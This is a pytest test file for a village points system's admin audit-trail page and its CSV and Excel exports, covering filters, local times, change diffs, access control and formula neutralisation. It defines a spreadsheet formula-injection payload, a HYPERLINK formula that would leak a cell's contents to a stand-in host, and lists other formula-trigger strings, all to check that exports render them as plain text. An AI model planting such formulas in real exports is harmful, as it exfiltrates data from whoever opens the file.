"""The audit trail page and its exports: filters, local times, readable changes, no formulas."""

import csv
import io
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from pointsys import audit, audit_trail
from pointsys.audit_trail import Filters
from pointsys.extensions import db
from pointsys.models import AuditEvent

from .conftest import csrf_token, login

SHANGHAI = ZoneInfo("Asia/Shanghai")
EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'


def event(action, obj_type, obj_id, at, actor="admin", before=None, after=None, address=None):
    row = audit.record(action, obj_type, obj_id, actor=actor, before=before, after=after)
    row.at = at
    row.address = address
    return row


@pytest.fixture
def trail(village):
    """Five events over two local days, one of them by a user named like a formula."""
    db.session.execute(db.delete(AuditEvent))  # the fixture's own rulebook load
    event(
        "update",
        "household",
        1,
        datetime(2026, 11, 19, 2, 0, tzinfo=UTC),  # 10:00 on the 19th in Shanghai
        before={"head_name": "张三", "phone": "138", "tags": ["党员户"]},
        after={"head_name": "张三明", "phone": "138", "tags": ["党员户", "军属"]},
        address="10.0.0.7",
    )
    event("create", "household", 2, datetime(2026, 11, 19, 3, 0, tzinfo=UTC), after={"x": 1})
    event("login", "user", 5, datetime(2026, 11, 20, 15, 59, tzinfo=UTC), actor="clerk")
    # 16:30 UTC on the 20th is 00:30 on the 21st in Shanghai: it belongs to the 21st.
    event("login_failed", "user", None, datetime(2026, 11, 20, 16, 30, tzinfo=UTC), actor=EVIL)
    event(
        "entry_approved",
        "entry",
        9,
        datetime(2026, 11, 21, 1, 0, tzinfo=UTC),
        actor="supervisor",
        before={"status": "pending", "points": None},
        after={"status": "approved", "points": "-2"},
    )
    db.session.commit()
    return village


def actions(page):
    return [e.action for e in page.events]


def test_newest_first_and_filters(trail):
    def find(**kw):
        return actions(audit_trail.page(Filters(**kw), SHANGHAI))

    assert find() == ["entry_approved", "login_failed", "login", "create", "update"]
    assert find(action="login") == ["login"]
    assert find(actor="clerk") == ["login"]
    assert find(object_type="household") == ["create", "update"]
    assert find(object_type="household", object_id="1") == ["update"]
    assert find(since=date(2026, 11, 21)) == ["entry_approved", "login_failed"]
    assert find(until=date(2026, 11, 20)) == ["login", "create", "update"]
    assert find(since=date(2026, 11, 20), until=date(2026, 11, 20)) == ["login"]


def test_paging(trail):
    first = audit_trail.page(Filters(), SHANGHAI, 1, per_page=2)
    last = audit_trail.page(Filters(), SHANGHAI, 3, per_page=2)
    assert (first.total, first.pages, actions(first)) == (5, 3, ["entry_approved", "login_failed"])
    assert actions(last) == ["update"]
    assert audit_trail.page(Filters(), SHANGHAI, 99, per_page=2).number == 3


def test_changes_show_only_what_changed(trail):
    update = db.session.execute(
        db.select(AuditEvent).where(AuditEvent.action == "update")
    ).scalar_one()
    assert [(c.key, c.before, c.after) for c in audit_trail.changes(update)] == [
        ("head_name", "张三", "张三明"),
        ("tags", "党员户", "党员户、军属"),
    ]
    create = db.session.execute(
        db.select(AuditEvent).where(AuditEvent.action == "create")
    ).scalar_one()
    assert [(c.key, c.before, c.after) for c in audit_trail.changes(create)] == [("x", "", "1")]


@pytest.fixture
def admin_client(client, trail):
    login(client, "admin", "correct horse 1")
    return client


def test_page_shows_who_when_where_what(admin_client):
    html = admin_client.get("/admin/audit/").get_data(as_text=True)
    assert "操作日志" in html
    assert "2026-11-19 10:00:00" in html  # local time, not UTC
    assert "10.0.0.7" in html
    assert "审核通过" in html and "积分记录 9" in html
    assert "<td>head_name</td><td>张三</td><td>张三明</td>" in html
    assert "<td>phone</td>" not in html  # unchanged keys are left out
    assert "&#34;点我&#34;" in html or "&quot;点我&quot;" in html  # escaped, not markup
    # The admin's own sign-in, today, is a "login" too: the range leaves it out.
    filtered = admin_client.get("/admin/audit/?action=login&since=2026-11-20&until=2026-11-20")
    html = filtered.get_data(as_text=True)
    assert "共 1 条" in html
    assert "export.xlsx?action=login&amp;since=2026-11-20&amp;until=2026-11-20" in html
    everything = admin_client.get("/admin/audit/?until=bad&since=").get_data(as_text=True)
    assert "共 6 条" in everything  # a malformed date filters nothing


def test_export_xlsx(admin_client):
    response = admin_client.get("/admin/audit/export.xlsx?object_type=user")
    assert response.status_code == 200
    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == [
        "时间",
        "操作人",
        "地址",
        "操作",
        "操作代码",
        "对象",
        "对象编号",
        "变更内容",
        "修改前",
        "修改后",
    ]
    ours = [r for r in rows[1:] if r[1] != "admin"]  # not the admin's own sign-in
    assert [r[4] for r in ours] == ["login_failed", "login"]
    assert ours[1][0] == datetime(2026, 11, 20, 23, 59)  # local time, a real date cell
    (formula,) = [row[1] for row in sheet.iter_rows(min_row=2) if row[4].value == "login_failed"]
    assert formula.value == EVIL and formula.data_type == "s"  # text, never a formula
    assert db.session.execute(
        db.select(AuditEvent).where(AuditEvent.action == "audit_exported")
    ).scalar_one().after == {"format": "xlsx", "object_type": "user"}


def test_export_csv(admin_client):
    response = admin_client.get("/admin/audit/export.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][:4] == ["时间", "操作人", "地址", "操作"]
    by_action = {r[4]: r for r in rows[1:]}
    assert by_action["login_failed"][1] == "'" + EVIL
    assert by_action["entry_approved"][0] == "2026-11-21 09:00:00"
    assert by_action["entry_approved"][7] == "status: pending → approved；points:  → -2"
    assert by_action["update"][2] == "10.0.0.7"
    assert by_action["update"][8].startswith("{")


def test_neutralise():
    for text in ("=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert audit_trail.neutralise(text) == "'" + text
    assert audit_trail.neutralise("张三") == "张三"


def test_only_admins(client, trail, make_user):
    assert client.get("/admin/audit/").status_code == 302
    for name in ("clerk", "supervisor"):
        login(client, name, "correct horse 1")
        for url in ("/admin/audit/", "/admin/audit/export.xlsx", "/admin/audit/export.csv"):
            assert client.get(url).status_code == 403
        assert "操作日志" not in client.get("/").get_data(as_text=True)
        client.post("/auth/logout", data={"csrf_token": csrf_token(client)})
    login(client, "admin", "correct horse 1")
    assert 'href="/admin/audit/"' in client.get("/").get_data(as_text=True)
